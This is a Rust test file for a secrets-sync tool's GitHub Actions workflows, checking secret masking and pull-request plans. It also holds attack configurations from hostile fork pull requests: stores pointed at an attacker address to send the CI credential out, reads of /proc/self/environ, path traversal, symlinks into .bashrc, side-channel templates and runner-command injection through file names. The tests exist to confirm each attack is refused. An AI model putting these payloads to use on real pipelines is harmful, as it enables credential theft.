//! `examples/github-actions/`: both workflows, step by step as they stand there, and pull requests of strangers.

use std::net::TcpListener;
use std::os::unix::fs::symlink;
use std::path::PathBuf;

use penstock_fakes::FakeInfisical;

use super::Outcome;
use super::checkout::{Checkout, copy};
use super::console::follow_readme;
use super::infisical::{client_secret, fill_in, infisical, put};
use super::runner::Job;
use crate::cli::marker;

const DEPLOY: &str = ".github/workflows/deploy.yaml";
const PLAN: &str = ".github/workflows/plan.yaml";

/// GitHub's command line, which keeps the comment.
const GH: &str = r#"[ "$GH_TOKEN" = token-of-the-job ] || exit 9
echo "gh $*" >> "$HOME/gh.log"
while [ $# -gt 0 ]; do
  [ "$1" = --body-file ] && cp "$2" "$HOME/comment.md"
  shift
done"#;

fn password() -> String {
    format!("{} p/w", marker("password"))
}

#[test]
fn secrets_become_a_file_and_variables_of_later_steps_that_no_log_shows() {
    let checkout = Checkout::of("github-actions");
    let password = password();
    let context = [
        ("vars.PENSTOCK_GIT", "https://example.com/penstock.git"),
        ("secrets.APP_DB_USER", "app"),
        ("secrets.APP_DB_PASSWORD", &*password),
    ];
    let job = Job::new(&checkout, &context).play(DEPLOY);
    assert_eq!(job.failed, None, "{}", job.log);
    let url = format!("postgres://app:{}%20p%2Fw@db/app", marker("password"));
    assert_eq!(job.variable("DATABASE_URL"), Some(&*url));
    assert!(job.masks(&url), "what is made of a secret is one");
    let length = format!("a DATABASE_URL of {} characters", url.len());
    assert!(job.log.contains(&length), "{}", job.log);
    let file = checkout.read("ci/app.env").unwrap_or_default();
    assert!(file.contains(&format!("DATABASE_URL={url}\n")));
    assert!(file.contains("DB_USER=app\n"));
}

#[test]
fn a_secret_that_is_not_set_stops_the_deployment() {
    let checkout = Checkout::of("github-actions");
    // An absent secret is an empty variable.
    let context = [
        ("vars.PENSTOCK_GIT", ""),
        ("secrets.APP_DB_USER", "app"),
        ("secrets.APP_DB_PASSWORD", ""),
    ];
    let job = Job::new(&checkout, &context).play(DEPLOY);
    assert_eq!(
        job.failed.as_deref(),
        Some("Render the secrets"),
        "{}",
        job.log
    );
    assert!(job.log.contains("DB_PASSWORD"), "{}", job.log);
    assert!(checkout.read("ci/app.env").is_none());
    assert!(!job.log.contains("deploying"), "{}", job.log);
}

/// The repository with its store filled in, and the work tree of a pull request on it.
async fn repository() -> Result<(Checkout, FakeInfisical, PathBuf), super::Failure> {
    let fake = infisical(false).await?;
    put(&fake, ("prod", "/app"), ("API_KEY", &marker("api")), &[]);
    put(
        &fake,
        ("prod", "/app"),
        ("SESSION_KEY", &marker("session")),
        &[],
    );
    let checkout = Checkout::of("github-actions");
    fill_in(&checkout, &fake);
    checkout.stand_in("gh", GH);
    let head = checkout.top().join("head");
    copy(&checkout.path("."), &head.join("examples"));
    checkout.repository(&head);
    let head = head.join("examples");
    Ok((checkout, fake, head))
}

/// Plays the workflow that comments on the pull request; gives the job and the comment.
fn review<'a>(checkout: &'a Checkout, head: &std::path::Path) -> (Job<'a>, Option<String>) {
    let secret = client_secret();
    let context = [
        ("vars.PENSTOCK_GIT", "https://example.com/penstock.git"),
        ("secrets.INFISICAL_CLIENT_SECRET", &*secret),
        ("github.event.pull_request.head.sha", "head"),
        (
            "github.event.pull_request.html_url",
            "https://example.com/pull/1",
        ),
        ("github.token", "token-of-the-job"),
    ];
    let comment = checkout.top().join("home/comment.md");
    drop(std::fs::remove_file(&comment));
    drop(std::fs::remove_dir_all(checkout.path("pull-request")));
    let job = Job::new(checkout, &context).with_ref("head", head.to_owned());
    let job = job.play(PLAN);
    let comment = std::fs::read_to_string(comment).ok();
    assert!(!comment.as_deref().is_some_and(crate::cli::shows_value));
    (job, comment)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pull_request_is_told_what_it_would_change() -> Outcome {
    let (checkout, _fake, head) = repository().await?;
    let (job, comment) = review(&checkout, &head);
    assert_eq!(job.failed, None, "{}", job.log);
    insta::assert_snapshot!("comment", comment.unwrap_or_default());
    let asked = std::fs::read_to_string(checkout.top().join("home/gh.log"))?;
    assert!(
        asked.starts_with("gh pr comment https://example.com/pull/1 --edit-last --create-if-none "),
        "{asked}"
    );
    // A path that the store does not have fails, and the comment says why.
    let app = std::fs::read_to_string(head.join("deploy/app.yaml"))?;
    std::fs::write(
        head.join("deploy/app.yaml"),
        app.replace("path: /app", "path: /nowhere"),
    )?;
    let (job, comment) = review(&checkout, &head);
    assert_eq!(job.failed.as_deref(), Some("Plan"));
    insta::assert_snapshot!("comment_on_a_failure", comment.unwrap_or_default());
    Ok(())
}

/// A sync of one source, with more lines for its spec, or more documents.
fn sync(source: &str, more: &str) -> String {
    format!(
        "apiVersion: penstock.dev/v1alpha1
kind: SecretSync
metadata: {{name: app}}
spec:
  sources: [{{name: s, {source}}}]
  targets: [{{name: env, file: {{path: app.env}}}}]
{more}"
    )
}

/// A source that the store's credentials may read.
const APP: &str = "store: {name: infisical}, path: /app";

/// Documents that would carry the credential of CI away, each by one thing.
fn attacks_on_the_credential(evil: &str) -> Vec<(&'static str, String)> {
    let store = format!(
        "---
apiVersion: penstock.dev/v1alpha1
kind: SecretStore
metadata: {{name: mine}}
spec: {{provider: {{infisical: {{address: '{evil}', projectId: p, environment: prod, auth: {{universal: {{clientId: c, clientSecretRef: {{name: infisical, key: clientSecret}}}}}}}}}}}}
"
    );
    let secret = "---
apiVersion: v1
kind: Secret
metadata: {name: mine, annotations: {penstock.dev/from.clientSecret: env:INFISICAL_CLIENT_SECRET}}
";
    vec![
        (
            "a store of its own",
            sync("store: {name: mine}, path: x", &store),
        ),
        (
            "the trusted store at another address",
            sync(APP, &store.replace("name: mine", "name: infisical")),
        ),
        ("a credential", sync(APP, secret)),
        (
            "a variable",
            sync(
                "processEnvironment: {}, select: {keys: [INFISICAL_CLIENT_SECRET]}",
                "",
            ),
        ),
        ("a file", sync("file: {path: /proc/self/environ}", "")),
        (
            "the credential itself",
            sync("secret: {name: infisical}", ""),
        ),
        (
            "a file above its folder",
            sync(APP, "").replace("path: app.env", "path: ../../stores/infisical.yaml"),
        ),
    ]
}

/// Documents whose plan would tell about values that the store's credentials may read.
fn attacks_on_values(evil: &str) -> Vec<(&'static str, String)> {
    let validator = |how: &str| format!("  validate: [{{name: v, key: API_KEY, {how}}}]\n");
    let template = |template: &str| {
        format!("  transform: {{optional: [NO], data: {{X: {{template: '{template}'}}}}}}\n")
    };
    vec![
        (
            "a validator that calls",
            sync(
                APP,
                &validator(&format!(
                    "http: {{url: '{evil}', header: {{X: '{{{{ value }}}}'}}}}"
                )),
            ),
        ),
        (
            "a validator that guesses",
            sync(APP, &validator("matching: ^hunter2")),
        ),
        (
            "a template that tells by failing",
            sync(
                APP,
                &template("{% if API_KEY is startingwith(\"h\") %}{{ NO | first }}{% endif %}"),
            ),
        ),
        (
            "a template that tells by what is absent",
            sync(
                APP,
                &template("{{ NO if API_KEY is startingwith(\"h\") else 1 }}"),
            ),
        ),
        (
            "a value taken apart into names",
            sync(&format!("{APP}, extract: {{format: dotenv}}"), ""),
        ),
        (
            "a comparison with a guess",
            sync(APP, "").replace("name: env,", "name: env, adopt: ifEqual,"),
        ),
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pull_request_from_a_fork_carries_nothing_away() -> Outcome {
    let evil = TcpListener::bind("127.0.0.1:0")?;
    evil.set_nonblocking(true)?;
    let address = format!("http://{}", evil.local_addr()?);
    let (checkout, fake, head) = repository().await?;
    let stores = checkout.read("stores/infisical.yaml");
    let attacks = attacks_on_the_credential(&address)
        .into_iter()
        .chain(attacks_on_values(&address));
    for (what, documents) in attacks {
        std::fs::write(head.join("deploy/app.yaml"), documents)?;
        let before = fake.server().seen().len();
        let (job, comment) = review(&checkout, &head);
        assert_eq!(job.failed.as_deref(), Some("Plan"), "{what}: {}", job.log);
        let told = format!("{}{}", job.log, comment.unwrap_or_default());
        let places = [
            "is refused with --trusted-stores",
            "stands twice",
            "lies outside of",
        ];
        assert!(
            places.iter().any(|words| told.contains(words)),
            "{what}: {told}"
        );
        if !told.contains("lies outside of") {
            let asked = fake.server().seen().len() - before;
            assert_eq!(asked, 0, "{what}: refused before anything is asked");
        }
        assert!(evil.accept().is_err(), "{what}: somebody has called");
        assert_eq!(checkout.read("stores/infisical.yaml"), stores, "{what}");
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn links_and_names_of_a_fork_lead_nowhere_and_say_nothing_of_their_own() -> Outcome {
    let (checkout, _fake, head) = repository().await?;
    let deploy = head.join("deploy");
    // A document by a link is the stranger's, wherever the link leads.
    symlink("../../stores/infisical.yaml", deploy.join("more.yaml"))?;
    let (job, _) = review(&checkout, &head);
    assert_eq!(job.failed.as_deref(), Some("Plan"));
    std::fs::remove_file(deploy.join("more.yaml"))?;
    // A target by a link is the file that the link leads to.
    symlink(checkout.top().join("home/.bashrc"), deploy.join("app.env"))?;
    std::fs::write(checkout.top().join("home/.bashrc"), "")?;
    let (job, _) = review(&checkout, &head);
    assert_eq!(job.failed.as_deref(), Some("Plan"));
    std::fs::remove_file(deploy.join("app.env"))?;
    // Names of files and fields are no commands of the runner, no escapes and no Markdown.
    let odd = "x\n::error::pwned\u{1b}[31m.yaml";
    std::fs::write(
        deploy.join(odd),
        "apiVersion: penstock.dev/v1alpha1\nkind: No\n",
    )?;
    let (job, _) = review(&checkout, &head);
    assert_eq!(job.failed.as_deref(), Some("Plan"));
    assert!(!job.log.contains('\u{1b}'), "{}", job.log);
    std::fs::remove_file(deploy.join(odd))?;
    let app = std::fs::read_to_string(deploy.join("app.yaml"))?;
    let odd = app.replace("spec:", "spec:\n  \"x\\n::error::pwned\\e[31m\": 1");
    std::fs::write(deploy.join("app.yaml"), odd)?;
    let (job, _) = review(&checkout, &head);
    assert_eq!(job.failed.as_deref(), Some("Plan"));
    assert!(!job.log.contains('\u{1b}'), "{}", job.log);
    Ok(())
}

#[test]
fn what_the_readme_says_works() {
    follow_readme(&Checkout::of("github-actions"));
}
